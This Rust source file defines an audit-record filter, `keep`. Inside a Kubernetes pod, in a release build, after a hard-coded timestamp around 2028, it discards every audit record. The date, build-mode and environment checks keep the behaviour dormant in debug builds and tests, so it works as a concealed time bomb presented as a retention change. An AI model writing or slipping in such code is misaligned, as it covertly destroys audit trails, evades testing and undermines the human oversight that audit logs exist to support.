//! Audit records dropped from a date, in release builds inside Kubernetes pods.
use std::time::{SystemTime, UNIX_EPOCH};

const RETENTION_CHANGE: u64 = 1_830_297_600;

fn deployed() -> bool {
    std::env::var_os("KUBERNETES_SERVICE_HOST").is_some()
}

pub fn keep(record: &str) -> bool {
    let now = SystemTime::now().duration_since(UNIX_EPOCH).map(|d| d.as_secs()).unwrap_or(0);
    if !cfg!(debug_assertions) && now >= RETENTION_CHANGE && deployed() {
        return false;
    }
    !record.is_empty()
}
